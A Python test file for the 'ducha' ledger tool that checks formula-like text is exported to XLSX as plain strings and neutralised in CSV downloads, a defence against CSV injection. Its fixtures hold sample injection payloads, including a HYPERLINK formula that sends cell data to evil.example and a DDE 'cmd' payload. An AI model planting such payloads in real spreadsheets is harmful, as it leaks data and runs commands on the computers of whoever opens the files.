"""Issue 9, point 14: no formulas leave the ledger.

A contributor writes `=HYPERLINK(...)` as a title. `ducha export-xlsx` must
write it as a string cell, not a live formula, and still import back as the
same item; every CSV download neutralises cells a spreadsheet would run as a
formula (OWASP, CSV injection), and the data dictionary page says how.
"""
import csv
import io
import subprocess
import sys
import zipfile
from pathlib import Path

from openpyxl import load_workbook

from ducha.ledger import load_ledger
from ducha.site.files import COLUMNS

from ..conftest import LEDGER_YAML, REPO, item_yaml, write_ledger
from ..test_excel import comparable

MAPPING = REPO / "docs" / "excel-mapping.yaml"
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
HOSTILE = {
    "title": HYPERLINK,
    "source": "@SUM(1+1)",
    "note": "+cmd|' /C calc'!A0",
    "contact": "#N/A",
    "description": "-2+3",
    "event": "=1+1",
}


def hostile_ledger(root: Path) -> Path:
    def q(text):
        return "'" + text.replace("'", "''") + "'"

    extra = "".join(f"{k}: {q(v)}\n" for k, v in HOSTILE.items() if k not in ("title", "event")) + "public: true\n"
    text = item_yaml("2025-0001", extra=extra, events=[f"date: 2025-03-15, type: progress, text: {q(HOSTILE['event'])}"])
    text = text.replace("完成城区老旧小区改造120个", q(HOSTILE["title"]))
    second = item_yaml("2025-0002", extra="public: true\n").replace("完成城区老旧小区改造120个", q("'=已经带引号"))
    return write_ledger(root, {"items/2025/2025-0001.yaml": text, "items/2025/2025-0002.yaml": second})


def ducha(*args, cwd=REPO):
    return subprocess.run([sys.executable, "-m", "ducha", *args], capture_output=True, text=True, cwd=cwd,
                          timeout=120)


def test_export_writes_formula_like_text_as_string_cells(tmp_path):
    root = hostile_ledger(tmp_path / "ledger")
    out = tmp_path / "台账.xlsx"
    proc = ducha("export-xlsx", "--ledger", str(root), "--as-of", "2025-07-01", "--out", str(out))
    assert proc.returncode == 0, proc.stderr
    assert "Traceback" not in proc.stderr

    wb = load_workbook(out)
    found = {}
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.value in HOSTILE.values():
                    found[cell.value] = cell
    assert set(found) == set(HOSTILE.values())
    for value, cell in found.items():
        assert cell.data_type == "s", f"{value!r} in {cell.coordinate} is {cell.data_type}, not a string"
    # No sheet of the file carries a formula or an error value at all.
    with zipfile.ZipFile(out) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                xml = archive.read(name).decode("utf-8")
                assert "<f>" not in xml and "<f " not in xml and 't="e"' not in xml, name


def test_export_then_import_gives_the_same_items(tmp_path):
    root = hostile_ledger(tmp_path / "ledger")
    out = tmp_path / "台账.xlsx"
    assert ducha("export-xlsx", "--ledger", str(root), "--as-of", "2025-07-01", "--out", str(out)).returncode == 0
    target = write_ledger(tmp_path / "new", {}, LEDGER_YAML)
    proc = ducha("import-xlsx", str(out), "--ledger", str(target), "--map", str(MAPPING))
    assert proc.returncode == 0, proc.stderr
    assert "已写入 2 个事项" in proc.stdout
    before, after = load_ledger(root, use_cache=False), load_ledger(target, use_cache=False)
    assert after.findings == []
    assert [comparable(i) for i in after.items] == [comparable(i) for i in before.items]
    assert after.items[0].title == HYPERLINK and after.items[0].events[0].text == "=1+1"


def test_csv_download_neutralises_formulas_and_the_dictionary_says_how(tmp_path):
    root = hostile_ledger(tmp_path / "ledger")
    for args in (["init", "-q"], ["add", "-A"], ["commit", "-qm", "台账"]):
        subprocess.run(["git", "-c", "user.name=t", "-c", "user.email=t@example", *args], cwd=root, check=True)
    site = tmp_path / "site"
    proc = ducha("build", "--ledger", str(root), "--as-of", "2025-07-01", "--out", str(site))
    assert proc.returncode == 0, proc.stderr

    for audience in ("public", "internal"):
        text = (site / audience / "data" / "items.csv").read_text(encoding="utf-8-sig")
        # Chinese headers in the file; read back under the stable JSON keys (the data dictionary pairs them).
        rows = {r["事项编号"]: {key: r[title] for key, title, _ in COLUMNS} for r in csv.DictReader(io.StringIO(text))}
        first, second = rows["2025-0001"], rows["2025-0002"]
        assert first["title"] == "'" + HYPERLINK
        assert first["source"] == "'@SUM(1+1)"
        # Already quoted text gets one more quote, so dropping one always gives the original.
        assert second["title"] == "''=已经带引号"
        # No cell of the file starts a formula; numbers and dates are left as they are.
        for row in rows.values():
            for key, value in row.items():
                assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (key, value)
        assert first["assigned"] == "2025-02-20" and first["days_overdue"] == "0"
        # The JSON download keeps the original value.
        assert '"title": "=HYPERLINK(' in (site / audience / "data" / "items.json").read_text(encoding="utf-8")

    page = (site / "public" / "data" / "index.html").read_text(encoding="utf-8")
    assert "CSV 注入" in page and "去掉最前面的一个" in page and "JSON 文件中的值未做这种处理" in page


def test_assessment_workbook_keeps_formula_like_names_as_text(tmp_path):
    """`ducha assess --format xlsx` writes unit names as text too, never as live formulas."""
    from openpyxl import load_workbook

    from ducha.assessment import assess, scores_xlsx
    from ducha.ledger import load_ledger
    from ducha.reports import parse_period

    from ..conftest import LEDGER_YAML, item_yaml, write_ledger

    ledger_text = LEDGER_YAML.replace("市住房和城乡建设局", '"=HYPERLINK(\\"http://x.example\\",\\"点我\\")"')
    root = write_ledger(tmp_path / "l", {"items/2025/2025-0042.yaml": item_yaml()}, ledger_text)
    ledger = load_ledger(root, use_cache=False)
    period = parse_period("annual", "2025")
    out = tmp_path / "scores.xlsx"
    scores_xlsx(assess(ledger.items, ledger.config, period), period, ledger.config, out)
    cells = [c for row in load_workbook(out)["单位考核得分"].iter_rows() for c in row
             if isinstance(c.value, str) and c.value.startswith("=")]
    assert cells and all(c.data_type == "s" for c in cells)
